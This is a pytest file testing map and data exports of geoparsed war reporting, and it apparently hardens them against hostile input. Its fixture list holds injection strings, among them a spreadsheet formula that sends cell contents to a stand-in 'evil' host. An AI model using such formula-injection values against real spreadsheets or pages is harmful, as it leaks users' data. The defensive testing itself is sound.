"""Results out: every form is read back by the ecosystem's own reader, and carries what it must."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import xml.etree.ElementTree as ET
from dataclasses import replace
from html.parser import HTMLParser

import geopandas
import pandas as pd
import pyarrow.parquet as pq
import pyogrio
import pytest
from fastkml.validator import validate
from hypothesis import given
from hypothesis import strategies as st
from pyld import jsonld

from dateline import Article, Choice, DatelineError, ExportError, Label, Mention, Passage, Place, ReadArticle, Reading, mentions_table
from dateline.__main__ import main
from dateline.decisions import decide
from dateline.exports import FORMATS, format_of, render, select, to_csv
from dateline.exports.page import MAX_CELLS_BYTES
from dateline.library import Library
from tests.conftest import ROOT
from tests.test_browser import PAYLOADS

FORM = {form.name: form for form in FORMATS}
MUST = ("quote", "start", "end", "kind", "reference", "confidence", "status", "place_id", "source")
HOSTILE = (
    *PAYLOADS,
    '=HYPERLINK("http://evil/?"&A1,"Kyiv")',
    "@SUM(1)",
    "\t=1",
    "＝1",
    "]]>",
    "<!--",
    "\u2028",
    "a\x00b",
    "-->",
    "Ünïcødé 🌍 ქართული",
)


def hostile_report(names=HOSTILE):
    """A report whose every name, reason and title is an attack."""
    text = " ".join(f"At {name} nothing." for name in names)
    passages, readings, at = (Passage(0, 0, len(text), 0),), [], 0
    for number, name in enumerate(names):
        start = text.index(name, at)
        at = start + len(name)
        place = Place(f"my:{name}", name, "PPL", 40 + number / 10, 30 + number / 10, "UA", name, source=name) if number % 3 else None
        mention = Mention(f"m{start}-{at}", start, at, name, 1.0, name)
        readings.append(
            Reading(mention, passages[0], Choice(place, name, 0.5), Label("fighting", name), Label("literal", name), "checked", name)
        )
    return ReadArticle(Article("hostile", names[0], text, source="https://a.example/"), passages, tuple(readings))


@pytest.fixture(scope="module")
def whole(bakhmut):
    return select(bakhmut)


@pytest.fixture(scope="module", params=["seed", "hostile", "empty"])
def any_selection(request, bakhmut):
    if request.param == "seed":
        return select(bakhmut)
    return select(hostile_report() if request.param == "hostile" else replace(bakhmut, readings=()))


@pytest.mark.parametrize("table", ["mentions", "places"])
def test_geojson_is_read_by_geopandas(any_selection, table, tmp_path):
    path = tmp_path / "x.geojson"
    path.write_bytes(render(any_selection, FORM["geojson"], table))
    data = json.loads(path.read_bytes())
    rows = getattr(any_selection, table)
    assert len(data["features"]) == len(rows)
    assert "GeoNames" in data["licence"]
    if len(rows):
        frame = geopandas.read_file(path)
        assert frame.crs.to_epsg() == 4326
        assert (frame.geometry.notna() & ~frame.geometry.is_empty).sum() == rows["lat"].notna().sum()
        placed = rows[rows["lat"].notna()].iloc[0]
        point = frame.geometry[frame["place_id"] == placed["place_id"]].iloc[0]
        assert (point.x, point.y) == (placed["lon"], placed["lat"])
    if table == "mentions":
        assert all(name in feature["properties"] for feature in data["features"] for name in MUST)


def test_geopackage_is_read_by_geopandas_with_both_layers(any_selection, tmp_path):
    path = tmp_path / "x.gpkg"
    path.write_bytes(render(any_selection, FORM["geopackage"]))
    assert {name for name, _ in pyogrio.list_layers(path)} == {"mentions", "places"}
    frame = geopandas.read_file(path, layer="mentions")
    assert len(frame) == len(any_selection.mentions)
    if len(frame):
        assert frame.crs.to_epsg() == 4326
        assert list(frame["start"]) == list(any_selection.mentions["start"])
        assert all(name in frame.columns for name in MUST)


def test_kml_is_valid_and_has_every_placed_place(any_selection, tmp_path):
    path = tmp_path / "x.kml"
    path.write_bytes(render(any_selection, FORM["kml"]))
    assert validate(file_to_validate=path)
    root = ET.fromstring(path.read_bytes())
    spots = root.findall(".//{*}coordinates")
    assert len(spots) == any_selection.places["lat"].notna().sum()
    assert len(root.findall(".//{*}Placemark")) == len(any_selection.places)
    if len(any_selection.mentions):
        assert all(f'"{name}"' in path.read_text(encoding="utf-8").replace("&quot;", '"') for name in MUST)


@pytest.mark.parametrize("table", ["mentions", "places"])
def test_parquet_and_csv_come_back_as_they_were(whole, table):
    rows = getattr(whole, table).reset_index(drop=True)
    read = pd.read_parquet(io.BytesIO(render(whole, FORM["parquet"], table)))
    pd.testing.assert_frame_equal(read, rows, check_dtype=False)
    assert b"GeoNames" in pq.read_schema(io.BytesIO(render(whole, FORM["parquet"], table))).metadata[b"licence"]
    text = render(whole, FORM["csv"], table)
    assert text.startswith(b"\xef\xbb\xbf")
    again = pd.read_csv(io.BytesIO(text), keep_default_na=False, na_values={"lat": [""], "lon": [""]})
    assert again["place_id"].tolist() == rows["place_id"].tolist()
    assert again["lat"].equals(rows["lat"])


STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@given(
    st.lists(
        st.one_of(st.text(max_size=8), st.tuples(st.sampled_from([*STARTS, " =", "\n=", "\t="]), st.text(max_size=5)).map("".join)),
        min_size=1,
    )
)
def test_no_cell_of_a_spreadsheet_is_a_formula(cells):
    """Law: no text cell of a CSV begins like a formula, white space before it or not; numbers stay as they are."""
    text = to_csv(pd.DataFrame({"name": cells, "number": -1.5}))
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert all(not row[0].lstrip().startswith(STARTS) for row in rows if row)
    assert all(row[1] == "-1.5" for row in rows if len(row) > 1)


def test_annotations_are_linked_data_that_needs_no_network(any_selection):
    def loader(url, _):
        raise AssertionError(url)

    document = json.loads(render(any_selection, FORM["jsonld"]))
    expanded = jsonld.expand(document, {"documentLoader": loader})
    quads = jsonld.to_rdf(document, {"format": "application/n-quads", "documentLoader": loader})
    count = quads.count("http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <http://www.w3.org/ns/oa#Annotation>")
    assert count == len(any_selection.mentions)
    if not count:
        return
    assert len(expanded) == 1
    text = any_selection.article.text
    for item in document["first"]["items"]:
        quote, position = item["target"]["selector"]
        assert text[position["start"] : position["end"]] == quote["exact"]
        assert quote["prefix"] + quote["exact"] + quote["suffix"] in text
    assert "TextPositionSelector" in quads


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.handlers += [name for name, _ in attrs if name.startswith("on")]


def test_the_page_asks_nobody_and_holds_no_markup_of_the_report(any_selection):
    html = render(any_selection, FORM["page"]).decode()
    seen = _Tags()
    seen.feed(html)
    assert not seen.handlers
    assert {tag for tag, _ in seen.tags} <= {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "h1",
        "p",
        "a",
        "nav",
        "div",
        "section",
        "footer",
        "script",
    }
    assert not [attrs for tag, attrs in seen.tags if "src" in attrs or tag == "link"]
    policy = next(attrs["content"] for tag, attrs in seen.tags if attrs.get("http-equiv") == "Content-Security-Policy")
    assert "default-src 'none'" in policy
    assert "unsafe" not in re.search(r"script-src ([^;]*)", policy)[1]
    assert "url(" not in re.search(r"<style>(.*?)</style>", html, re.S)[1]
    assert "GeoNames" in html.split("<footer>")[1]
    data = json.loads(re.search(r'id="dateline-data">(.*?)</script>', html, re.S)[1])
    assert sum(len(place["mentions"]) for place in data["places"]) == len(any_selection.mentions)


def test_the_page_of_the_seed_is_small_enough_to_send(whole):
    assert len(render(whole, FORM["page"])) < 1_500_000
    assert MAX_CELLS_BYTES < 1_000_000


def test_pictures_are_pictures_of_print_size_with_all_that_belongs_to_a_map(any_selection):
    png = render(any_selection, FORM["png"])
    assert png.startswith(b"\x89PNG")
    width, height = int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")
    assert (width, height) == (3000, 2280)
    svg = render(any_selection, FORM["svg"])
    root = ET.fromstring(svg)
    assert root.tag.endswith("svg")
    assert not [e for e in root.iter() if e.tag.endswith(("script", "foreignObject"))]
    assert svg == render(any_selection, FORM["svg"]), "the same report gives the same picture"


def test_what_is_filtered_is_what_is_handed_over(bakhmut):
    mentions = mentions_table(bakhmut)
    some = select(bakhmut, mentions[mentions["kind"] == "fighting"])
    assert set(json.loads(render(some, FORM["geojson"]))["features"][0]["properties"]) >= set(MUST)
    assert f"{len(some.mentions)} of {len(mentions)}" in some.note
    assert all(f["properties"]["kind"] == "fighting" for f in json.loads(render(some, FORM["geojson"]))["features"])


@pytest.mark.parametrize(
    ("name", "form", "table"),
    [
        ("places.geojson", "geojson", "places"),
        ("a/map.html", "page", "mentions"),
        ("Place.CSV", "csv", "places"),
        ("x.gpkg", "geopackage", "mentions"),
    ],
)
def test_a_file_name_says_form_and_table(name, form, table):
    assert (format_of(name)[0].name, format_of(name)[1]) == (form, table)


@pytest.mark.parametrize("name", ["page", "png", "svg"])
def test_a_map_is_drawn_from_the_gazetteer_that_the_report_was_read_with(whole, tmp_path, monkeypatch, name):
    from dateline import Gazetteer
    from dateline.exports import export

    asked = []

    class Own(Gazetteer):
        def outline(self, place_id):
            asked.append(place_id)
            return super().outline(place_id)

    def another():
        raise AssertionError("another gazetteer was opened")

    for module in ("page", "picture"):
        monkeypatch.setattr(sys.modules[f"dateline.exports.{module}"], "open_gazetteer", another)
    own = Own()
    export(whole, tmp_path / f"map{FORM[name].suffix}", own)
    assert render(whole, FORM[name], gazetteer=own)
    assert asked or name != "page", "no area lies within the picture of this report"
    with pytest.raises(AssertionError, match="another"):
        render(whole, FORM[name])


def test_the_usual_gazetteer_has_the_packs_that_are_installed(home, tmp_path):
    from dateline import packs

    (tmp_path / "mine.csv").write_text("name,lat,lon\nQorvexhilamo,48,38\n", encoding="utf-8")
    packs.add_own("mine", tmp_path / "mine.csv")
    assert packs.open_gazetteer().candidates("Qorvexhilamo")
    assert not packs.open_gazetteer(()).candidates("Qorvexhilamo")


def test_an_unknown_ending_lists_the_known_ones():
    with pytest.raises(ExportError, match=r"\.geojson"):
        format_of("map.pdf")


def test_the_command_line_exports_a_file_and_a_report_with_its_decisions(home, tmp_path, capsys, workshop):
    from dateline import Desk, Gazetteer

    seed = str(ROOT / "seeds" / "bakhmut-2023-03-07.md")
    assert main(["export", seed, "--to", str(tmp_path / "map.html"), "--to", str(tmp_path / "places.csv"), "--kinds", "fighting"]) == 0
    said = capsys.readouterr().out
    assert re.search(r"\b[3-9] of 58 mentions", said), said
    assert (tmp_path / "map.html").stat().st_size > 100_000
    desk = Desk(Library(), workshop, Gazetteer())
    became = desk.add_file("bakhmut.md", (ROOT / "seeds" / "bakhmut-2023-03-07.md").read_bytes())
    opened = desk.open(became.report)
    desk.library.decide([decide(opened.read.article, opened.read.readings[0], "check", who="ana")])
    assert main(["export", became.report, "--to", str(tmp_path / "m.geojson"), "--checked"]) == 0
    (feature,) = json.loads((tmp_path / "m.geojson").read_bytes())["features"]
    assert feature["properties"]["status"] == "checked"
    assert main(["decisions", "export", became.report, "-o", str(tmp_path / "log.json")]) == 0
    assert main(["decisions", "import", became.report, str(tmp_path / "log.json")]) == 0
    assert "0 new" in capsys.readouterr().out
    assert main(["export", "nothing", "--to", str(tmp_path / "x.csv")]) == 1
    assert main(["export", seed, "--to", str(tmp_path / "no" / "x.csv")]) == 1
    assert "cannot be written" in capsys.readouterr().err


def test_every_error_of_ours_is_a_dateline_error():
    assert issubclass(ExportError, DatelineError)
